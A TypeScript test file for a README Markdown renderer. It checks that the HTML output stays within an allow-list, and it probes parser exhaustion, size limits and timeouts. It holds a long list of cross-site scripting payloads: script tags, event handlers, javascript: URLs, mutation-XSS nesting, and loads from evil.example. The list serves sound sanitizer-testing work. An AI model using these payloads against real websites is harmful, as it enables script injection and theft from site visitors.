import { type DefaultTreeAdapterTypes, parseFragment, serialize } from 'parse5'
import { expect, test } from 'vitest'
import { ClientError } from '../../kit/errors.ts'
import { htmlOf, readMarkdown } from './markdown.ts'

const prefix = 'readme-'
const render = (markdown: string) => htmlOf(markdown, prefix)

type Node = DefaultTreeAdapterTypes.ChildNode
type Element = DefaultTreeAdapterTypes.Element

const elementsOf = (nodes: readonly Node[]): Element[] =>
  nodes.flatMap((node) => ('tagName' in node ? [node, ...elementsOf(node.childNodes)] : []))

const harmless = new Set(
  `h1 h2 h3 h4 h5 h6 p div br hr blockquote ul ol li dl dt dd pre details summary a img span code kbd samp em i strong b s del ins
   sub sup table caption thead tbody tfoot tr th td`.split(/\s+/),
)
const plain = ['title', 'alt', 'width', 'height', 'start', 'open', 'colspan', 'rowspan', 'align', 'class']

/** What a browser would make of it that it should not; as a page would have it, amid other elements. */
function hazardsOf(html: string): string[] {
  const { childNodes } = parseFragment(`<main>${html}</main><footer></footer>`)
  const [main, footer, ...more] = childNodes as Element[]
  if (main?.tagName !== 'main' || footer?.tagName !== 'footer' || more.length > 0)
    return ['it leaves its place']
  // What is parsed otherwise the second time is how sanitizers were outwitted.
  const once = serialize(main)
  const found = serialize(parseFragment(once)) === once ? [] : ['it changes when it is parsed again']
  for (const { tagName, namespaceURI, attrs } of elementsOf(main.childNodes)) {
    if (!harmless.has(tagName) || !namespaceURI.endsWith('xhtml')) found.push(`<${tagName}>`)
    const given = Object.fromEntries(attrs.map(({ name, value }) => [name, value]))
    for (const [name, value] of Object.entries(given))
      if (!mayHave(tagName, name, value)) found.push(`${name}=${value}`)
    if (tagName === 'a' && given.rel !== 'nofollow noopener noreferrer') found.push(`rel=${given.rel}`)
    if (tagName === 'img' && given.referrerpolicy !== 'no-referrer')
      found.push('an image that tells where it is')
  }
  return found
}

function mayHave(tag: string, name: string, value: string): boolean {
  if (plain.includes(name)) return true
  if (name === 'id') return value.startsWith(prefix)
  if (tag === 'img')
    return name === 'src'
      ? new URL(value).protocol === 'https:'
      : ['loading', 'referrerpolicy'].includes(name)
  if (tag !== 'a') return false
  if (name === 'href')
    return value.startsWith(`#${prefix}`) || /^(https?|mailto):$/.test(new URL(value).protocol)
  return name === 'rel'
}

// After the cheat sheets of OWASP and PortSwigger, and what sanitizers were outwitted with.
const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script x>alert(1)</script y>',
  '<<SCRIPT>alert(1);//\\<</SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src=`javascript:alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<img src=https://a.example/x.png onload=alert(1) style="position:fixed;inset:0">',
  '<img src=https://a.example/x.png srcset="javascript:alert(1) 2x, http://a.example/y.png">',
  '<img src="http://a.example/x.png" alt="<script>alert(1)</script>">',
  '<img src=//evil.example/x.png>',
  '<img src="https://192.168.1.1/reboot">',
  '![x](https://router.local/reboot)',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img/onerror="alert(1)"src=x>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<style>@import "https://evil.example/x.css"; body { background: url(javascript:alert(1)) }</style>',
  '<div style="background-image: url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<p class="modal" id="login" name="cookie">x</p>',
  '<a id="location" name="location" href="https://a.example">x</a>',
  '<h1 id="cookie">x</h1>',
  '<form action="javascript:alert(1)"><input type=submit><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav\nascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)" onclick=alert(1) target=_blank>x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/logout">x</a>',
  '<a href="https://a.example" rel="opener">x</a>',
  '<a href="https://a.example\\" onmouseover=alert(1) x=\\"">x</a>',
  '[x](javascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](https://a.example "onclick=alert(1)")',
  '[x](https://a.example" onclick="alert(1))',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '![x](javascript:alert(1))',
  '![x](http://a.example/x.png)',
  '![x" onerror="alert(1)](https://a.example/x.png)',
  '![<img src=x onerror=alert(1)>](http://a.example)',
  '<javascript:alert(1)>',
  '<https://a.example/"onclick=alert(1)>',
  '```"><script>alert(1)</script>\nx\n```',
  '```x" onclick="alert(1)\nx\n```',
  '# <img src=x onerror=alert(1)> `"><script>`',
  '# "><svg onload=alert(1)>',
  '| a |\n| --- |\n| <img src=x onerror=alert(1)> |',
  '</main></div></body><script>alert(1)</script>',
  '<div><div><b><table><tr><td>never closed',
  '<table><a href="https://a.example">x<img src=x onerror=alert(1)></table>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml ><img src=x onerror=alert(1)>?>',
  '<!DOCTYPE x [<!ENTITY y "z">]><img src=x onerror=alert(1)>',
  '\\<img src=x onerror=alert(1)\\>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '<plaintext>',
  '<p>a<p>b</h1></p></li></td>',
]

test.each(vectors)('%s does nothing in a browser', (vector) => {
  const hazards = [vector, `a *${vector}* b`, `> - ${vector}`, `<div>\n${vector}`].flatMap((markdown) =>
    hazardsOf(render(markdown)),
  )
  expect(hazards).toEqual([])
})

test('what people write is rendered: CommonMark, tables, and harmless HTML', () => {
  const markdown = [
    '# Get *started*',
    '## Get started',
    '<p align="center"><img src="https://a.example/l.png" alt="Logo" width="80"></p>',
    'See [how](#get-started), [where](https://a.example "There") or [the file](docs/x.md). ~~Never~~',
    '| a | b |\n| :- | -: |\n| 1 | `2` |',
    '```ts\nconst a = 1 < 2\n```',
    '<details><summary>More</summary>\n\nThere **is**.\n\n</details>',
    '![no](http://a.example/x.png)',
  ].join('\n\n')
  const rel = 'rel="nofollow noopener noreferrer"'
  expect(render(markdown)).toBe(
    [
      '<h1 id="readme-get-started">Get <em>started</em></h1>',
      '<h2 id="readme-get-started-1">Get started</h2>',
      '<p align="center"><img src="https://a.example/l.png" alt="Logo" width="80" loading="lazy" referrerpolicy="no-referrer" /></p>',
      `<p>See <a href="#readme-get-started" ${rel}>how</a>, <a href="https://a.example" title="There" ${rel}>where</a> or <span>the file</span>. <s>Never</s></p>`,
      '<table>\n<thead>\n<tr>\n<th align="left">a</th>\n<th align="right">b</th>\n</tr>\n</thead>',
      '<tbody>\n<tr>\n<td align="left">1</td>\n<td align="right"><code>2</code></td>\n</tr>\n</tbody>\n</table>',
      '<pre><code class="language-ts">const a = 1 &lt; 2\n</code></pre>',
      '<details><summary>More</summary>\n<p>There <strong>is</strong>.</p>\n</details>',
      '<p><span>no</span></p>\n',
    ].join('\n'),
  )
})

const whole = 64 * 1024
const fill = (piece: string) => piece.repeat(Math.floor(whole / piece.length))

test.each([
  ['[', fill('[')],
  ['![', fill('![')],
  ['](', fill('](')],
  ['[a](', fill('[a](')],
  ['brackets within brackets', '['.repeat(20_000) + '](b)'.repeat(11_000)],
  ['*a ', fill('*a ')],
  ['*a **a ', fill('*a **a ')],
  ['_a __a ', fill('_a __a ')],
  ['a**b c* ', fill('a**b c* ')],
  ['~~a ', fill('~~a ')],
  ['>', fill('>')],
  ['> - ', fill('> - ')],
  ['- ', fill('- ')],
  ['lists within lists', Array.from({ length: 360 }, (_, depth) => `${' '.repeat(depth)}- a`).join('\n')],
  ['runs of backticks', Array.from({ length: 350 }, (_, length) => '`'.repeat(length)).join(' ')],
  ['<b>', fill('<b>')],
  ['<div>', fill('<div>\n\n')],
  ['<', fill('<')],
  ['<!--', fill('<!--')],
  ['<a b="', fill('<a b="')],
  ['<style>', fill('<style>')],
  ['<svg><math>', fill('<svg><math>')],
  ['&', fill('&')],
  [
    'references',
    `${Array.from({ length: 2_500 }, (_, n) => `[a${n}]: /x`).join('\n')}\n${'[a1]'.repeat(5_000)}`,
  ],
  ['headings', fill('# a\n')],
  ['a table that fills its rows', `${'|a'.repeat(100)}\n${'|-'.repeat(100)}\n${'x\n'.repeat(30_000)}`],
])('64 KiB of %s come to something harmless, or are refused', (_, markdown) => {
  try {
    const { html } = readMarkdown(markdown, 'input.readme', { mostBytes: whole, idPrefix: prefix })
    expect(hazardsOf(html)).toEqual([])
    expect(deepest(parseFragment(html).childNodes)).toBeLessThanOrEqual(100)
  } catch (error) {
    if (!(error instanceof ClientError)) throw error
    expect(error.argument).toBe('input.readme')
  }
})

const deepest = (nodes: readonly Node[]): number =>
  nodes.length === 0
    ? 0
    : 1 + Math.max(...nodes.map((node) => ('childNodes' in node ? deepest(node.childNodes) : 0)))

test('what is empty, too long, or holds a NUL is refused', () => {
  const options = { mostBytes: 10, idPrefix: prefix }
  for (const markdown of ['', ' \n', 'ä'.repeat(6), 'a\0b'])
    expect(() => readMarkdown(markdown, 'input.readme', options)).toThrow(ClientError)
  expect(readMarkdown('ä'.repeat(5), 'input.readme', options).html).toBe('<p>äääää</p>\n')
})

test('what does not come to an end in time, or to HTML of a decent size, is refused', () => {
  const table = `${'|a'.repeat(100)}\n${'|-'.repeat(100)}\n${'x\n'.repeat(30_000)}`
  const options = { mostBytes: whole, idPrefix: prefix, longestMs: 60_000 }
  expect(() => readMarkdown(table, 'input.readme', options)).toThrow('input.readme can not be rendered')
  const slow = () => readMarkdown(fill('!['), 'input.readme', { ...options, longestMs: 1 })
  expect(slow).toThrow('input.readme can not be rendered')
})
